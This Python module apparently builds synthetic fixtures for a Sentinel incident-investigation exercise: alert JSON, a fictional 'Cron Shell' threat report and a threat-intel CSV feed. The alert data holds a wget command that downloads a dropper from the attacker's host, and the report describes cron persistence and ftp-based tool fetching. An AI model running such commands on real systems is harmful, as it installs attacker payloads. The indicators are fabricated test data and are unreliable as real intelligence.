"""What the investigation starts from: Sentinel's alerts (SecurityAlert as JSON lines,
Entities and ExtendedProperties as JSON text with CRLF, as the shared alerts_list.jsonl
has them), a threat report's text naming the campaign's indicators (some defanged) and
a local threat-intel feed (CSV, the columns of Sentinel's sample feeds) that lists the
attacker's address.
"""
import json
import os

from . import story as S


def entities(items):
    ents = [{"$id": "2", "HostName": S.LINUX_HOST, "OSFamily": "Linux", "Type": "host"},
            {"$id": "3", "Address": S.ATTACKER, "Type": "ip"},
            {"$id": "4", "Name": S.LINUX_USER, "Host": {"$ref": "2"}, "Type": "account"}]
    ents += [dict(e, **{"$id": str(5 + i)}) for i, e in enumerate(items)]
    return json.dumps(ents, indent=2).replace("\n", "\r\n")


def alerts(out):
    common = {
        "TenantId": S.TENANT, "ProviderName": "ASI Scheduled Alerts", "VendorName": "Microsoft",
        "ProductName": "Azure Sentinel", "Status": "New", "CompromisedEntity": S.LINUX_HOST, "RemediationSteps": "",
        "ConfidenceLevel": "", "ConfidenceScore": None, "IsIncident": False, "ExtendedLinks": "",
        "SourceComputerId": "", "WorkspaceSubscriptionId": "", "WorkspaceResourceGroup": "", "ProcessingEndTime": "",
        "Type": "SecurityAlert",
    }
    rows = [
        dict(common, TimeGenerated="2019-02-18T15:31:02.104Z", DisplayName="SSH Anomalous Login ML",
             AlertName="SSH Anomalous Login ML", AlertSeverity="Medium", AlertType="SSH_Anomalous_Login",
             SystemAlertId="2e8a1f5b-8d4c-4d21-9a0b-5c1e36d7a001",
             Description=f"Anomalous login by {S.LINUX_USER} from {S.ATTACKER} to {S.LINUX_HOST} after "
                         "repeated failed attempts; the account has not logged in from this location before.",
             StartTime="2019-02-18T15:29:22.301Z", EndTime="2019-02-18T15:29:22.301Z", Tactics="InitialAccess",
             Techniques="T1078", Entities=entities([]),
             ExtendedProperties=json.dumps({"Compromised Host": S.LINUX_HOST, "Source IP": S.ATTACKER,
                                            "User": S.LINUX_USER, "Query Period": "1.00:00:00"},
                                           indent=2).replace("\n", "\r\n")),
        dict(common, TimeGenerated="2019-02-18T15:36:41.870Z", DisplayName="Detected suspicious file download",
             AlertName="Detected suspicious file download", AlertSeverity="Medium",
             AlertType="SuspiciousFileDownload", SystemAlertId="2e8a1f5b-8d4c-4d21-9a0b-5c1e36d7a002",
             Description=f"A process on {S.LINUX_HOST} downloaded a file from a suspicious source: {S.PAYLOAD_URL}",
             StartTime="2019-02-18T15:31:32.000Z", EndTime="2019-02-18T15:31:33.000Z", Tactics="Execution",
             Techniques="T1105",
             Entities=entities([{"Name": S.PAYLOAD, "Directory": "/tmp", "Type": "file"},
                                {"CommandLine": f"wget {S.PAYLOAD_URL} -O {S.PAYLOAD_PATH}",
                                 "ImageFile": {"Name": "wget", "Directory": "/usr/bin", "Type": "file"},
                                 "Host": {"$ref": "2"}, "Type": "process"}]),
             ExtendedProperties=json.dumps({"Compromised Host": S.LINUX_HOST, "Suspicious Process": "/usr/bin/wget",
                                            "Command Line": f"wget {S.PAYLOAD_URL} -O {S.PAYLOAD_PATH}",
                                            "Download Source": S.ATTACKER}, indent=2).replace("\n", "\r\n")),
    ]
    with open(os.path.join(out, "alerts.jsonl"), "w", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, separators=(",", ":"), ensure_ascii=False) + "\n")


def defang(ip):
    """23.97.60[.]214: how reports keep an address from being a link."""
    head, _, tail = ip.rpartition(".")
    return f"{head}[.]{tail}"


def threat_report(out):
    c2a, c2b, c2c = S.C2_IPS
    text = f"""Threat report TR-2019-0218: "Cron Shell", SSH intrusions into Linux and Windows cloud hosts

Summary. Since early February 2019 we have tracked an operator who guesses SSH passwords
on internet-facing Linux hosts, logs in from {defang(S.ATTACKER)} once a guess succeeds,
downloads a shell dropper (QuZYpObins.sh) from the same address and persists it with a
cron entry that runs every five minutes. The dropper beacons to its C2 over plain HTTP.
On Windows hosts of the same tenants the operator logs on over RDP with stolen
credentials, fetches tools with `ftp -s:MG06.dll`, creates a local administrator and
schedules C:\\pagefile.exe to run at start-up.

Indicators
  - Operator address: {defang(S.ATTACKER)}
  - C2 servers: {defang(c2a)}, {defang(c2b)}, {c2c}
  - C2 domain: hxxp://{S.C2_DOMAIN.replace('.', '[.]')}/c
  - Dropper: /tmp/QuZYpObins.sh, SHA-256 {S.PAYLOAD_SHA256}
  - Dropper MD5: {S.PAYLOAD_MD5}
  - Windows payload: C:\\pagefile.exe
  - Scanners seen with the operator: {defang(S.SCANNERS[0])}, {defang(S.SCANNERS[1])}
  - Contact: abuse-reports[@]{S.C2_DOMAIN.replace('.', '[.]')}

The dropper exploits no vulnerability; CVE-2019-5736 (runc) was probed on two hosts but
not used. Version strings like 1.2.3.4.5 in the dropper's banner are not addresses.
"""
    with open(os.path.join(out, "threat_report.txt"), "w", newline="\n") as f:
        f.write(text)


def ti_feed(out):
    rows = [
        ("ip", S.ATTACKER, "Cron Shell operator: SSH and RDP intrusions", "high", "2/18/2019"),
        ("ip", S.C2_IPS[0], "Cron Shell C2", "high", "2/16/2019"),
        ("ip", S.SCANNERS[0], "SSH scanner", "medium", "2/10/2019"),
        ("domainname", S.C2_DOMAIN, "Cron Shell C2 domain", "high", "2/16/2019"),
        ("sha256", S.PAYLOAD_SHA256, "QuZYpObins.sh dropper", "high", "2/18/2019"),
    ]
    with open(os.path.join(out, "ti_feed.csv"), "w", newline="\n") as f:
        f.write("Type,Indicator,Description,Severity,DateAdded\n")
        for r in rows:
            f.write(",".join(r) + "\n")


def write(out):
    alerts(out)
    threat_report(out)
    ti_feed(out)
